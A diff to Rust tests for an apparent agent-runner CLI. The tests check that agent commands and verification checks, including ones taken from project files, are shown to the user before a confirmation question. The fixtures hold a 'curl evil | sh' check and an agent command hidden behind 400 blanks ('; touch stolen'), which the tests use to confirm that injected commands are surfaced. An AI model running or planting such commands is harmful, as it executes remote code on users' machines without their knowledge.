@@ -30,9 +30,9 @@ fn the_checks_of_a_cloned_run_are_shown_before_the_question() -> Result<()> {
     }
     fs_err::write(&file, graph.to_string())?;
     for words in [
-        &["resume", "--agent-cmd", "my-agent"][..],
+        &["resume", "--agent-cmd", "false # my-agent"][..],
         &["resume", "--yes", "--agent-cmd", "false # my-agent"],
-        &["-q", "resume", "--agent-cmd", "my-agent"],
+        &["-q", "resume", "--agent-cmd", "false # my-agent"],
         &["plan"],
     ] {
         let output = sandbox.run(words)?;
@@ -69,18 +69,23 @@ fn the_checks_and_the_agent_of_a_run_are_shown_before_the_question() -> Result<(
     fs_err::write(project.path().join("plan.json"), plan)?;
     let mut words = run_words("exit 3 # my-agent").to_vec();
     words.extend(["--verify", "make all", "--retries", "0"]);
-    let check = "check: `test -e A.txt` (for 2 tasks, from `plan.json`, a file of the project)";
-    for is_asked in [true, false] {
+    let in_question = [
+        "agent       `exit 3 # my-agent`\n",
+        "`make all` for 2 tasks\n",
+        "`test -e A.txt` for 2 tasks (from `plan.json`, a file of the project)\n",
+    ];
+    let in_list = [
+        "agent: `exit 3 # my-agent`\n",
+        "check: `make all` (for 2 tasks)\n",
+        "check: `test -e A.txt` (for 2 tasks, from `plan.json`, a file of the project)\n",
+    ];
+    for (is_asked, shown) in [(true, in_question), (false, in_list)] {
         words.retain(|word| !is_asked || *word != "--yes");
         if !is_asked {
             words.push("--yes");
         }
         let said = text(&project.rekindle(&words).stderr);
-        for wanted in [
-            "agent: `exit 3 # my-agent`\n",
-            "check: `make all` (for 2 tasks)\n",
-            check,
-        ] {
+        for wanted in shown {
             ensure!(said.contains(wanted), "{wanted}: {said}");
         }
     }
@@ -92,7 +97,7 @@ fn the_checks_and_the_agent_of_a_run_are_shown_before_the_question() -> Result<(
     fs_err::write(&settings, text_of.replace("make all", "curl evil | sh"))?;
     let said = text(&project.rekindle(&["resume", "--agent-cmd", WRITE]).stderr);
     ensure!(
-        said.contains("check: `curl evil | sh` (for 2 tasks, from `.agent-memory/"),
+        said.contains("`curl evil | sh` for 2 tasks (from `.agent-memory/"),
         "{said}"
     );
     ensure!(
@@ -114,8 +119,8 @@ fn an_agent_of_the_projects_configuration_is_marked() -> Result<()> {
     fs_err::write(project.path().join(".rekindle/config.toml"), config)?;
     let said = text(&project.rekindle(&["run", "plan.json"]).stderr);
     for wanted in [
-        "agent: `true [400 blanks] ; touch stolen` (from `.rekindle/config.toml`, a file of the project)",
-        "check: `make all` (for 1 task, from `.rekindle/config.toml`, a file of the project)",
+        "agent       `true [400 blanks] ; touch stolen` (from `.rekindle/config.toml`, a file of the project)",
+        "`make all` for 1 task (from `.rekindle/config.toml`, a file of the project)",
     ] {
         ensure!(said.contains(wanted), "{wanted}: {said}");
     }
